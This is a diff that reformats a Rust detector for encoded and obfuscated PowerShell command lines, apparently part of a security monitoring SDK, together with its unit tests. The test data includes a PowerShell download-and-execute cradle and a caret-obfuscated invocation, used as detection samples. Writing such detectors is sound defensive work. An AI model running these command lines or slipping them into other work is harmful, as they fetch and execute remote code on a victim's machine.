@@ -84,16 +84,20 @@ vigil_sdk::export_detector!(EncodedPowerShell);
 
 fn ends_with_ignore_case(haystack: &str, needle: &str) -> bool {
     haystack.len() >= needle.len()
-        && haystack.as_bytes()[haystack.len() - needle.len()..].eq_ignore_ascii_case(needle.as_bytes())
+        && haystack.as_bytes()[haystack.len() - needle.len()..]
+            .eq_ignore_ascii_case(needle.as_bytes())
 }
 
 /// Whether the process is PowerShell, by image or (for carets hiding the
 /// name inside a `cmd /c` line) by the de-careted command line.
 fn is_powershell(image: &str, command_line: &str) -> bool {
-    ["powershell.exe", "pwsh.exe"].iter().any(|exe| ends_with_ignore_case(image, exe)) || {
-        let plain = command_line.replace('^', "").to_ascii_lowercase();
-        plain.contains("powershell") || plain.contains("pwsh")
-    }
+    ["powershell.exe", "pwsh.exe"]
+        .iter()
+        .any(|exe| ends_with_ignore_case(image, exe))
+        || {
+            let plain = command_line.replace('^', "").to_ascii_lowercase();
+            plain.contains("powershell") || plain.contains("pwsh")
+        }
 }
 
 /// The Base64 argument of an `-EncodedCommand`-style flag, if any.
@@ -107,7 +111,8 @@ fn encoded_payload(command_line: &str, min_len: usize) -> Option<&str> {
             continue;
         };
         let name = name.to_ascii_lowercase();
-        let is_encoded_flag = name == "ec" || (!name.is_empty() && "encodedcommand".starts_with(&name));
+        let is_encoded_flag =
+            name == "ec" || (!name.is_empty() && "encodedcommand".starts_with(&name));
         if !is_encoded_flag {
             continue;
         }
@@ -144,7 +149,10 @@ fn obfuscation(command_line: &str) -> Option<&'static str> {
 /// Decode Base64 of UTF-16LE text, as `-EncodedCommand` requires.
 fn decode_utf16_base64(payload: &str) -> Option<String> {
     let bytes = decode_base64(payload)?;
-    let units: Vec<u16> = bytes.chunks_exact(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect();
+    let units: Vec<u16> = bytes
+        .chunks_exact(2)
+        .map(|c| u16::from_le_bytes([c[0], c[1]]))
+        .collect();
     Some(String::from_utf16_lossy(&units))
 }
 
@@ -222,24 +230,40 @@ mod tests {
                 .expect("detect");
             assert_eq!(findings.len(), 1, "flag {flag}");
             assert_eq!(findings[0].rule_id, "vigil.powershell.encoded-command");
-            assert!(findings[0].evidence.contains(&("DecodedCommand".into(), "whoami".into())));
+            assert!(
+                findings[0]
+                    .evidence
+                    .contains(&("DecodedCommand".into(), "whoami".into()))
+            );
         }
     }
 
     #[test]
     fn execution_policy_flag_is_not_mistaken_for_encoded_command() {
-        assert!(rules(PS, "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1").is_empty());
+        assert!(
+            rules(
+                PS,
+                "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1"
+            )
+            .is_empty()
+        );
         assert!(rules(PS, "powershell.exe -Command Get-Service").is_empty());
     }
 
     #[test]
     fn obfuscation_markers_fire_only_without_an_encoded_flag() {
         assert_eq!(
-            rules(PS, "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')"),
+            rules(
+                PS,
+                "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')"
+            ),
             ["vigil.powershell.obfuscated-command"]
         );
         assert_eq!(
-            rules(r"C:\Windows\System32\cmd.exe", "cmd /c p^o^w^e^r^s^h^e^l^l -nop -c calc"),
+            rules(
+                r"C:\Windows\System32\cmd.exe",
+                "cmd /c p^o^w^e^r^s^h^e^l^l -nop -c calc"
+            ),
             ["vigil.powershell.obfuscated-command"]
         );
         assert_eq!(
@@ -250,6 +274,12 @@ mod tests {
 
     #[test]
     fn non_powershell_processes_are_ignored() {
-        assert!(rules(r"C:\Program Files\Git\bin\git.exe", "git commit -e dwBoAG8AYQBtAGkAdwBoAG8AYQBtAGkA").is_empty());
+        assert!(
+            rules(
+                r"C:\Program Files\Git\bin\git.exe",
+                "git commit -e dwBoAG8AYQBtAGkAdwBoAG8AYQBtAGkA"
+            )
+            .is_empty()
+        );
     }
 }
